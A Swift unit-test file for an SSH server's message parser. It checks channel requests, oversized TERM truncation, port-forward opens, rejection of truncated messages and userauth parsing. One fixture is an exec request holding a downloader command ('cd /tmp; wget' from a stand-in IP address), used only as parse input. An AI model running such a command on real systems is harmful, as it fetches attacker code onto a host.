import XCTest
import MitsuCore
@testable import MitsuSSH

final class MessageParserTests: XCTestCase {
    func string(_ s: String) -> [UInt8] { string(Array(s.utf8)) }
    func string(_ b: [UInt8]) -> [UInt8] { uint32(UInt32(b.count)) + b }
    func uint32(_ n: UInt32) -> [UInt8] { [UInt8(n >> 24), UInt8(n >> 16 & 0xFF), UInt8(n >> 8 & 0xFF), UInt8(n & 0xFF)] }

    func testChannelRequestsParse() {
        let exec = [SSHMessage.channelRequest] + uint32(3) + string("exec") + [1] + string("cd /tmp; wget http://198.51.100.1/x")
        XCTAssertEqual(ConnectionMessage.parse(exec), .channelRequest(channel: 3, wantReply: true, request: .exec("cd /tmp; wget http://198.51.100.1/x")))
        let longTerm = String(repeating: "x", count: 5000)
        let pty = [SSHMessage.channelRequest] + uint32(0) + string("pty-req") + [0] + string(longTerm) + uint32(132) + uint32(50)
        XCTAssertEqual(ConnectionMessage.parse(pty),
                       .channelRequest(channel: 0, wantReply: false, request: .pty(TerminalInfo(term: String(repeating: "x", count: 64), columns: 132, rows: 50))),
                       "an oversized TERM is cut, not kept")
        let forward = [SSHMessage.channelOpen] + string("direct-tcpip") + uint32(7) + uint32(1000) + uint32(512) + string("10.1.2.3") + uint32(25)
        XCTAssertEqual(ConnectionMessage.parse(forward), .channelOpen(kind: "direct-tcpip", sender: 7, window: 1000, maxPacket: 512,
                                                                      target: .init(host: "10.1.2.3", port: 25)))
        XCTAssertEqual(ConnectionMessage.parse([SSHMessage.channelEOF] + uint32(9)), .eof(channel: 9))
        XCTAssertEqual(ConnectionMessage.parse([200]), .unimplemented(200))
    }

    func testTruncatedMessagesAreRejectedNotTrapped() {
        let messages: [[UInt8]] = [
            [SSHMessage.channelRequest] + uint32(3) + string("exec") + [1] + string("id"),
            [SSHMessage.channelOpen] + string("session") + uint32(0) + uint32(10) + uint32(10),
            [SSHMessage.channelData] + uint32(0) + string("ls"),
            [SSHMessage.channelWindowAdjust] + uint32(0) + uint32(100),
            [SSHMessage.globalRequest] + string("keepalive@openssh.com") + [1],
        ]
        for m in messages {
            XCTAssertNotNil(ConnectionMessage.parse(m))
            for cut in 1..<m.count {
                let prefix = Array(m.prefix(cut))
                // A shorter message either parses to something sensible or is refused; it never traps.
                if let parsed = ConnectionMessage.parse(prefix), case .channelRequest(_, _, let r) = parsed {
                    XCTAssertNotEqual(r, .exec("id"), "cut at \(cut) must not yield the full command")
                }
            }
        }
        // A length field larger than the message.
        XCTAssertNil(ConnectionMessage.parse([SSHMessage.channelData] + uint32(0) + uint32(0xFFFF_FFFF) + [1, 2]))
    }

    func testUserauthRequests() {
        let change = [SSHMessage.userauthRequest] + string("root") + string("ssh-connection") + string("password") + [1]
            + string("old") + string("new")
        XCTAssertEqual(UserauthRequest.parse(change)?.method, .password("old", newPassword: "new"))
        let query = [SSHMessage.userauthRequest] + string("admin") + string("ssh-connection") + string("publickey") + [0]
            + string("ssh-ed25519") + string([1, 2, 3])
        XCTAssertEqual(UserauthRequest.parse(query)?.method, .publicKey(algorithm: "ssh-ed25519", blob: [1, 2, 3], signature: nil))
        let badUTF8 = [SSHMessage.userauthRequest] + string([0xFF, 0x72]) + string("ssh-connection") + string("none")
        XCTAssertEqual(UserauthRequest.parse(badUTF8)?.user, "\u{FFFD}r", "shown as sent, not refused")
        XCTAssertNil(UserauthRequest.parse(Array(change.prefix(change.count - 2))))
        XCTAssertNil(UserauthRequest.parse([SSHMessage.channelData]))
    }
}
